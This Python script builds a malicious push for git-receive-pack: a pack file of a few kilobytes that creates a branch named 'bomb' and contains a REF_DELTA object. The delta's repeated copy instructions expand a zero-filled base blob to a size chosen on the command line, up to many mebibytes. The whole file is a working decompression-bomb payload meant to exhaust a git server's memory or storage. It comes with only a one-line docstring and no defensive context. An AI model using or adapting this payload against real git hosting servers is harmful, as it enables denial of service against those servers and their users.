"""What a client sends to git-receive-pack: a branch `bomb`, and a pack of some kilobytes with a delta that makes MIB of it."""
import hashlib
import struct
import sys
import zlib

MIB = int(sys.argv[1])
BLOB, TREE, COMMIT, REF_DELTA = 3, 2, 1, 7


def header(kind, size):
    byte, size = (kind << 4) | (size & 15), size >> 4
    out = b""
    while size:
        out += bytes([byte | 0x80])
        byte, size = size & 0x7F, size >> 7
    return out + bytes([byte])


def number(value):
    out = b""
    while value >= 0x80:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def object_id(kind, data):
    return hashlib.sha1(b"%s %d\0" % (kind, len(data)) + data).digest()


base = b"\0" * 0xFFFFFF
copies = MIB * 1024 * 1024 // len(base)
# Copy the whole base, again and again.
delta = number(len(base)) + number(len(base) * copies) + b"\xf0\xff\xff\xff" * copies
large = hashlib.sha1(b"blob %d\0" % (len(base) * copies))
for _ in range(copies):
    large.update(base)
tree = b"100644 big\0" + large.digest()
commit = b"tree %s\nauthor a <a@x> 1 +0000\ncommitter a <a@x> 1 +0000\n\nbomb\n" % object_id(b"tree", tree).hex().encode()
objects = [
    header(BLOB, len(base)) + zlib.compress(base, 9),
    header(REF_DELTA, len(delta)) + object_id(b"blob", base) + zlib.compress(delta, 9),
    header(TREE, len(tree)) + zlib.compress(tree),
    header(COMMIT, len(commit)) + zlib.compress(commit),
]
pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
pack += hashlib.sha1(pack).digest()
command = b"0" * 40 + b" " + object_id(b"commit", commit).hex().encode() + b" refs/heads/bomb\0 report-status"
sys.stdout.buffer.write(b"%04x" % (len(command) + 4) + command + b"0000" + pack)
